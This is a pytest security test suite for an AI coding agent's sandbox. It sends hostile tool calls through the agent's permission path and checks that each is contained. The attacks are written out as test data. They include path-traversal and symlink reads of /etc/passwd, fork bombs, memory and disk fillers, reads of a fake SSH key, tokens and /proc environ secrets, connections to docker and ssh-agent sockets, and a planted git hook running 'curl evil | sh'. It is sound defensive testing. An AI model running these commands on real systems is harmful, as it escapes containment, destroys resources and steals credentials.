"""Hostile tool calls against the sandbox: each must be refused or contained, and nothing outside may change.

Every attack goes through the real path an agent's call takes (Permissions in --yes mode -> tool -> sandbox). An
attack that needs an OS feature (network namespace, private root, PID namespace, memory cgroup) is *expected* to be
contained only when `Sandbox.isolation` says that feature is in effect; otherwise the suite reports it as not
contained rather than pretending. The suite runs three times: with the strongest isolation this machine allows; with
no namespaces (what a machine without `unshare` gets) and no opt-in, where every command must be refused; and with no
namespaces after the user opted in (`allow_unisolated=True`). `pytest -s` prints the tried/contained counts.
"""

import hashlib
import os
import signal
import socket
import subprocess
import sys
import threading
import uuid
from dataclasses import dataclass, field

import pytest

from nanocode.agents.permissions import Permissions
from nanocode.agents.sandbox import Sandbox
from nanocode.agents.tools import build_tools

TOOLS = build_tools()
YES = Permissions(auto_approve=True)


@dataclass
class Env:
    sandbox: Sandbox
    outside: str  # a directory beside the workspace
    sentinel: str  # a file outside the workspace that nothing may change
    marker: str  # a unique string to find an attack's processes afterwards
    fake_home: str  # a user's home beside the workspace: .ssh/id_rsa, an ssh-agent socket
    bash_results: list = field(default_factory=list)

    def call(self, tool, **args):
        result = YES.call(TOOLS[tool], args, self.sandbox)
        if tool == "Bash":
            self.bash_results.append(result)
        return result

    def bash_refused(self) -> bool:
        """Every command of the attack was refused, in one line, for want of isolation."""
        return bool(self.bash_results) and all(
            r.is_error and "allow_unisolated=True" in r.text and "\n" not in r.text for r in self.bash_results
        )


def refused(result) -> bool:
    return result.is_error and ("outside the workspace" in result.text or "NUL byte" in result.text)


def live_processes_with(marker: str) -> list[int]:
    """Processes (not zombies) whose command line holds `marker`."""
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                cmdline = f.read()
            with open(f"/proc/{name}/stat", "rb") as f:
                state = f.read().rsplit(b")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if marker.encode() in cmdline and state not in (b"Z", b"X"):
            found.append(int(name))
    return found


# -- the attacks: each returns (contained, what happened) -----------------------------------------------------------
def read_dotdot(env):
    r = env.call("Read", file_path="../../../../../../etc/passwd")
    return refused(r), r.text


def read_absolute(env):
    r = env.call("Read", file_path="/etc/passwd")
    return refused(r), r.text


def read_symlink_to_root(env):
    os.symlink("/", env.sandbox.root / "rootlink")
    r = env.call("Read", file_path="rootlink/etc/passwd")
    g = env.call("Grep", pattern="root", path="rootlink/etc")
    return refused(r) and refused(g), f"{r.text} | {g.text}"


def read_nul_path(env):
    r = env.call("Read", file_path="notes.txt\x00/../../etc/passwd")
    return refused(r), r.text


def edit_dotdot(env):
    rel = os.path.relpath(env.sentinel, env.sandbox.root)
    r = env.call("Edit", file_path=rel, old_string="original", new_string="pwned")
    return refused(r), r.text


def edit_create_absolute_outside(env):
    target = os.path.join(env.outside, "created_by_agent.txt")
    r = env.call("Edit", file_path=target, new_string="pwned")
    return refused(r) and not os.path.exists(target), r.text


def edit_through_symlink(env):
    os.symlink(env.sentinel, env.sandbox.root / "innocent.txt")
    r = env.call("Edit", file_path="innocent.txt", old_string="original", new_string="pwned")
    return refused(r), r.text


def grep_outside(env):
    r = env.call("Grep", pattern="root", path="/etc")
    return refused(r), r.text


def symlink_made_by_bash_then_read(env):
    env.call("Bash", command="ln -s /etc/passwd pw && ln -s .. up")
    r1, r2 = env.call("Read", file_path="pw"), env.call("Read", file_path=f"up/{os.path.basename(env.sentinel)}")
    return refused(r1) and refused(r2), f"{r1.text} | {r2.text}"


def sleep_forever(env):
    r = env.call("Bash", command=f"sleep 100000 # {env.marker}")
    gone = not live_processes_with(env.marker)
    return r.text.startswith("error: command failed: timed out") and gone, r.text


def fork_bomb(env):
    r = env.call("Bash", command=f"bomb(){{ bomb | bomb & }}; bomb; sleep 100 # {env.marker}")
    gone = not live_processes_with(env.marker)
    return gone, f"{r.text[:120]} | leftover processes: {len(live_processes_with(env.marker))}"


def python_fork_bomb(env):
    code = "import os, time\nwhile True:\n    try: os.fork()\n    except OSError: time.sleep(0.01)"
    r = env.call("Bash", command=f"python -c '{code}' {env.marker}")
    gone = not live_processes_with(env.marker)
    return gone and r.is_error, f"{r.text[:120]} | leftover processes: {len(live_processes_with(env.marker))}"


def print_one_gigabyte(env):
    r = env.call("Bash", command="head -c 1000000000 /dev/zero | tr '\\0' x")
    bound = env.sandbox.max_output_bytes
    ok = "output exceeded" in r.text and len(r.text.encode()) < bound + 200
    return ok, f"{len(r.text)} chars returned: {r.text[:80]}..."


def memory_bomb(env):
    r = env.call("Bash", command="python -c 'b = bytearray(64 * 1024**3); print(len(b))'")
    return r.is_error and "MemoryError" in r.text, r.text.splitlines()[0] + " ... " + r.text.splitlines()[-1]


def disk_filler(env):
    r = env.call("Bash", command="head -c 500000000 /dev/zero > big.bin")
    size = (env.sandbox.root / "big.bin").stat().st_size if (env.sandbox.root / "big.bin").exists() else 0
    return r.is_error and size <= env.sandbox.max_file_bytes, f"{r.text} | file size {size}"


def read_real_home(env):
    r = env.call("Bash", command="echo HOME=$HOME; ls -A ~; cat ~/.bashrc ~/.ssh/id_rsa 2>&1 | head -3")
    real_home = os.path.expanduser("~")
    lines = r.text.splitlines()
    ok = lines[0] == f"HOME={env.sandbox.home}" and lines[1] == "tmp" and f"HOME={real_home}" not in r.text
    ok = ok and all("No such file" in line for line in lines[2:])
    return ok, r.text.replace("\n", " | ")


def environment_secret(env):
    secret = os.environ["NANOCODE_SECURITY_SECRET"]
    r = env.call("Bash", command="env")
    return secret not in r.text, "env of the command does not show the agent's variables"


def proc_environ_of_the_agent(env):
    # /proc/PID/environ shows a process's environment as it was at exec, so the secret goes into a decoy's
    secret = os.environ["NANOCODE_SECURITY_SECRET"]
    decoy = subprocess.Popen(["sleep", "1000"], env={"PATH": os.environ["PATH"], "AGENT_SECRET": secret})
    try:
        r = env.call("Bash", command="cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a AGENT_SECRET")
    finally:
        decoy.kill()
        decoy.wait()
    return secret not in r.text, r.text[:100]


def kill_a_host_process(env):
    decoy = subprocess.Popen(["sleep", "1000"])
    try:
        r = env.call("Bash", command=f"kill -9 {decoy.pid}")
        alive = decoy.poll() is None
    finally:
        decoy.kill()
        decoy.wait()
    return alive, r.text


def network_to_localhost(env):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    try:
        code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2); print('connected')"
        r = env.call("Bash", command=f'python -c "{code}"')
        try:
            server.accept()[0].close()
            accepted = True
        except TimeoutError:
            accepted = False
    finally:
        server.close()
    return not accepted and "connected" not in r.text, r.text.splitlines()[-1]


def write_outside(env):
    # its own victim file: without read-only mounts this attack succeeds, and the sentinel must stay untouched
    victim = os.path.join(env.outside, "victim.txt")
    with open(victim, "w") as f:
        f.write("original\n")
    r = env.call("Bash", command=f"echo pwned > {victim}; echo pwned > {env.outside}/new.txt")
    with open(victim) as f:
        unchanged = f.read() == "original\n"
    return unchanged and not os.path.exists(f"{env.outside}/new.txt"), r.text.replace("\n", " | ")


def remount_and_write(env):
    r = env.call("Bash", command=f"mount -o remount,rw / && mount -o remount,rw {env.outside}; touch {env.outside}/x")
    return not os.path.exists(f"{env.outside}/x"), r.text.replace("\n", " | ")


def _listening_unix_socket(path: str) -> tuple[socket.socket, list[bool]]:
    """A host service on a pathname UNIX socket; the list turns [True] when anything connects."""
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    server.listen(4)
    server.settimeout(0.2)
    accepted = [False]

    def serve():
        while True:
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return  # closed
            accepted[0] = True
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    return server, accepted


def unix_socket_connect(env):
    """docker.sock, the session bus, an ssh-agent: pathname sockets the network namespace does not cover."""
    paths = [os.path.join(env.outside, "docker.sock"), os.path.join(env.fake_home, ".ssh", "agent.sock")]
    servers = [_listening_unix_socket(p) for p in paths]
    try:
        code = (
            "import socket, sys\nfor p in sys.argv[1:]:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n"
            "        s.connect(p); print('connected', p)\n    except OSError as e:\n        print('failed', e)"
        )
        r = env.call("Bash", command=f'python -c "{code}" {" ".join(paths)}; socat - UNIX:{paths[0]} </dev/null')
    finally:
        for server, _ in servers:
            server.close()
    connected = any(accepted[0] for _, accepted in servers) or "connected" in r.text
    return not connected, r.text.replace("\n", " | ")


def read_ssh_key_and_tokens(env):
    key = os.path.join(env.fake_home, ".ssh", "id_rsa")
    token = os.path.join(env.outside, "token.txt")
    r = env.call("Bash", command=f"cat {key} {token} 2>&1; ls -A {env.fake_home} {env.outside} 2>&1; cp {token} .")
    leaked = "PRIVATE KEY" in r.text or "tok-" in r.text or (env.sandbox.root / "token.txt").exists()
    return not leaked, r.text.replace("\n", " | ")


def read_real_home_dir(env):
    """The user's real home (here, the test runner's) is absent, whatever $HOME says."""
    real_home = os.path.expanduser("~")
    names = sorted(os.listdir(real_home))[:20] if os.path.isdir(real_home) else []
    r = env.call("Bash", command=f"ls -A {real_home} 2>&1")
    seen = [n for n in names if n in r.text.split()]
    visible = sorted(set(seen) - set(_prefixes_under(real_home)))
    return not visible, f"visible: {visible} | {r.text[:100]}"


def _prefixes_under(home: str) -> list[str]:
    """Top-level names in the home that hold a Python prefix: bound read-only on purpose so python works."""
    return [os.path.relpath(p, home).split("/")[0] for p in (sys.prefix, sys.base_prefix) if p.startswith(home + "/")]


def read_block_device(env):
    """Raw disks, kernel memory and the kernel log are not in the minimal /dev."""
    devices = [d for d in ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg") if os.path.exists(d)]
    r = env.call("Bash", command="ls /dev; " + "; ".join(f"head -c 16 {d} | od -c | head -1" for d in devices))
    listed = set(r.text.split())
    extra = {d.rsplit("/", 1)[1] for d in devices} & listed
    return not extra and "No such file" in r.text, r.text.replace("\n", " | ")[:200]


def plant_git_hook(env):
    hooks = env.sandbox.root / ".git" / "hooks"
    r = env.call("Bash", command="echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
    planted = (hooks / "pre-commit").exists()
    if planted:
        (hooks / "pre-commit").unlink()  # the next run's workspace must start clean
    return not planted, r.text.replace("\n", " | ")


def four_processes_of_one_gibibyte(env):
    hold = "b = bytearray(2**30); import time; time.sleep(1); print('held')"
    r = env.call("Bash", command=f'for i in 1 2 3 4; do python -c "{hold}" & done; wait')
    return r.text.splitlines().count("held") == 0, r.text.splitlines()[-1][:100]


def four_processes_under_the_per_process_limit(env):
    """Each process stays under the per-process limit; only a whole-command limit stops 4 of them together."""
    hold = "b = bytearray(150 * 2**20); import time; time.sleep(1.5); print('held')"
    r = env.call("Bash", command=f'for i in 1 2 3 4; do python -c "{hold}" & done; wait')
    return r.text.splitlines().count("held") < 4, f"{r.text.splitlines().count('held')} of 4 held 150 MiB"


def many_files_fill_the_disk(env):
    """Each file under the file-size limit; only the whole-command write bound stops the total."""
    r = env.call("Bash", command="for i in $(seq 60); do head -c 5000000 /dev/zero > fill$i.bin; done")
    files = list(env.sandbox.root.glob("fill*.bin"))
    written = sum(p.stat().st_size for p in files)
    for p in files:
        p.unlink()
    return written < 60 * 5_000_000 // 2, f"{written} bytes written | {r.text[:80]}"


# (attack, the isolation feature it needs to be contained, or None when the sandbox must always contain it)
ATTACKS = [
    (read_dotdot, None),
    (read_absolute, None),
    (read_symlink_to_root, None),
    (read_nul_path, None),
    (edit_dotdot, None),
    (edit_create_absolute_outside, None),
    (edit_through_symlink, None),
    (grep_outside, None),
    (symlink_made_by_bash_then_read, None),
    (sleep_forever, None),
    (fork_bomb, None),
    (python_fork_bomb, None),
    (print_one_gigabyte, None),
    (memory_bomb, None),
    (disk_filler, None),
    (read_real_home, None),
    (environment_secret, None),
    (proc_environ_of_the_agent, "pid_namespace"),
    (kill_a_host_process, "pid_namespace"),
    (network_to_localhost, "network_removed"),
    (write_outside, "readonly_outside"),
    (remount_and_write, "readonly_outside"),
    (unix_socket_connect, "private_root"),
    (read_ssh_key_and_tokens, "private_root"),
    (read_real_home_dir, "private_root"),
    (read_block_device, "private_root"),
    (plant_git_hook, "private_root"),
    (four_processes_of_one_gibibyte, None),
    (four_processes_under_the_per_process_limit, "memory_limit"),
    (many_files_fill_the_disk, None),
]


def sha256(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


MODES = {  # name: (isolate, allow_unisolated)
    "isolated": (True, False),
    "no-namespaces": (False, False),  # what a host without namespaces gets: every command refused
    "no-namespaces-opted-in": (False, True),  # the user accepted unisolated commands
}


@pytest.mark.parametrize("mode", list(MODES))
def test_hostile_tool_calls_are_contained(tmp_path, monkeypatch, mode):
    isolate, allow_unisolated = MODES[mode]
    monkeypatch.setenv("NANOCODE_SECURITY_SECRET", f"s3cret-{uuid.uuid4().hex}")
    outside = tmp_path / "outside"
    outside.mkdir()
    sentinel = outside / "sentinel.txt"
    sentinel.write_text("original content\n")
    (outside / "token.txt").write_text(f"tok-{uuid.uuid4().hex}\n")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n")
    watched = [str(sentinel), "/etc/passwd", "/etc/hostname"]
    before = {p: sha256(p) for p in watched if os.path.exists(p)}
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (ws / "notes.txt").write_text("hello\n")

    sandbox = Sandbox(
        ws,
        timeout_s=3,
        max_output_bytes=64 * 1024,
        memory_bytes=256 * 1024**2,
        cpu_s=5,
        max_processes=32 if isolate else 16,
        max_file_bytes=10 * 1024**2,
        max_write_bytes=32 * 1024**2,
        isolate=isolate,
        allow_unisolated=allow_unisolated,
    )
    iso = sandbox.isolation
    refusing = sandbox.unisolated_reason() is not None and not allow_unisolated
    rows, missed = [], []
    try:
        for attack, needs in ATTACKS:
            env = Env(sandbox, str(outside), str(sentinel), f"nanocode-attack-{uuid.uuid4().hex[:12]}", str(home))
            try:
                contained, detail = attack(env)
            except Exception as e:  # an attack that broke on unexpected output (e.g. a refusal) proves nothing
                contained, detail = False, f"{type(e).__name__}: {e}"
            if env.bash_results and refusing:
                assert env.bash_refused(), f"{attack.__name__}: a command ran on a host that cannot isolate it"
                contained, detail = True, f"refused: {env.bash_results[0].text}"
            expected = needs is None or getattr(iso, needs) or refusing
            rows.append((attack.__name__, contained, expected, needs, detail))
            if expected and not contained:
                missed.append(attack.__name__)
            assert os.getpgrp() and signal.SIGKILL  # the test runner is still here
    finally:
        sandbox.close()

    after = {p: sha256(p) for p in before}
    n_contained = sum(contained for _, contained, *_ in rows)
    print(f"\n[{mode}] isolation: {iso.describe()}")
    for name, contained, expected, needs, detail in rows:
        status = "contained" if contained else ("NOT CONTAINED" if expected else f"not contained (needs {needs})")
        print(f"  {status:<40} {name:<44} {detail[:100]!r}")
    print(f"  => {n_contained}/{len(rows)} hostile calls contained; files outside unchanged: {after == before}")
    assert after == before, "a file outside the workspace changed"
    assert not missed, f"not contained although the sandbox claims the isolation for it: {missed}"
    if isolate and sandbox.unisolated_reason() is None and iso.memory_limit:
        assert n_contained == len(rows)  # full isolation: every attack contained
